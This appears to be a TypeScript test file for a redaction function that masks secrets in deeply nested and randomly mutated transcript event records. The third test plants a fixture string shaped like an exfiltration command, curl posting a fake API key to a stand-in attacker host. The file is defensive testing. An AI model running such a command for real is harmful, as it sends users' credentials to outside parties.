// Issue 20: redaction walks a record of any depth without the call stack. A record nested far
// deeper than a recursive walk survives (the old walk overflowed at a few thousand levels and
// crashed the collector) is masked like any other, and seeded hostile mutations of real OpenClaw
// transcript events never throw, never leak a planted secret and never change their input.
import { readFileSync } from "node:fs";
import test from "ava";
import { redactRecord } from "@oclog/schema";
import { Dice, deepNest, mutateRecord } from "../../../test/hostile/hostile-random.js";

const FAKE_KEY = `sk-proj-${"FAKE0oclog".repeat(4)}`;
const REAL_EVENTS = readFileSync(new URL("../../../test/fixtures/openclaw-2026.9.6/sqlite-event-rows.jsonl", import.meta.url), "utf8")
  .split("\n")
  .filter(Boolean)
  .map((line) => (JSON.parse(line) as { event: Record<string, unknown> }).event);

/** Every key and scalar of a value in walk order, without recursion (JSON.stringify overflows on the deep ones). */
function fingerprint(value: unknown): string {
  const tokens: string[] = [];
  const stack: unknown[] = [value];
  while (stack.length > 0) {
    const node = stack.pop();
    if (typeof node !== "object" || node === null) {
      tokens.push(`${typeof node}:${String(node)}`);
      continue;
    }
    tokens.push(Array.isArray(node) ? "[" : "{");
    for (const [k, v] of Object.entries(node).reverse()) stack.push(v, `key:${k}`);
  }
  return tokens.join("\u0000");
}

/** The innermost object of a `deepNest` chain. */
function bottom(value: unknown): Record<string, unknown> {
  let node = value as Record<string, unknown>;
  while (typeof node.a === "object" && node.a !== null) node = node.a as Record<string, unknown>;
  return node;
}

test("a record nested 200,000 levels deep is masked at the bottom without overflowing the stack", (t) => {
  const deep = deepNest(200_000);
  const inner = bottom(deep);
  inner.command = `export OPENAI_API_KEY=${FAKE_KEY}`;
  inner.authorization = ["Bearer abcdefghijklmnopqrstuvwxyz0123"];
  inner.token = { source: "env", id: "GATEWAY_TOKEN" };
  const record = { type: "message", message: deep, untouched: { a: [1, "plain text"] } };
  const { record: out, changed } = redactRecord(record);
  t.true(changed);
  const masked = bottom(out.message);
  t.is(masked.command, "export OPENAI_API_KEY=[REDACTED:openai]");
  t.deepEqual(masked.authorization, ["[REDACTED:field]"], "an array under a secret key is masked element by element");
  t.deepEqual(masked.token, { source: "env", id: "GATEWAY_TOKEN" }, "an object under a secret key stays readable");
  t.is(inner.command, `export OPENAI_API_KEY=${FAKE_KEY}`, "the input is not mutated");
  t.is(out.untouched, record.untouched, "an unchanged branch is shared, not copied");
});

test("the planted 20,000-level event from the collect corpus redacts without throwing, unchanged when clean", (t) => {
  const event = JSON.parse(readFileSync(new URL("../../../test/hostile/corpus/collect/event-nested-20000.json", import.meta.url), "utf8")) as Record<string, unknown>;
  const { record, changed } = redactRecord(event);
  t.false(changed);
  t.is(record, event);
});

test("seeded hostile mutations of real transcript events: no throw, planted secrets masked, input untouched", (t) => {
  let masked = 0;
  for (let i = 0; i < 300; i++) {
    const seed = `redaction-hostile-${i}`;
    const dice = new Dice(seed);
    const mutated = mutateRecord(dice, dice.pick(REAL_EVENTS)) as Record<string, unknown>;
    const record: Record<string, unknown> = typeof mutated === "object" && mutated !== null && !Array.isArray(mutated) ? mutated : { value: mutated };
    // The secret goes into a random object of the record, as a tool argument would carry it.
    const containers: Record<string, unknown>[] = [];
    const stack: unknown[] = [record];
    while (stack.length > 0) {
      const node = stack.pop();
      if (typeof node !== "object" || node === null) continue;
      if (!Array.isArray(node)) containers.push(node as Record<string, unknown>);
      stack.push(...Object.values(node));
    }
    const planted = dice.chance(0.7);
    if (planted) dice.pick(containers)[`note${i}`] = `curl -d key=${FAKE_KEY} https://attacker.invalid`;
    const before = fingerprint(record);
    let result: ReturnType<typeof redactRecord>;
    try {
      result = redactRecord(record);
    } catch (error) {
      t.fail(`${seed}: redactRecord threw ${(error as Error).message}`);
      continue;
    }
    const { record: out, changed } = result;
    t.is(fingerprint(record), before, `${seed}: the input is unchanged`);
    const after = fingerprint(out);
    t.false(after.includes(FAKE_KEY), `${seed}: the planted key is gone`);
    if (planted) {
      t.true(changed, seed);
      t.true(after.includes("[REDACTED:openai]"), seed);
      masked++;
    }
  }
  t.true(masked > 150, `${masked} of 300 records carried a planted key`);
});
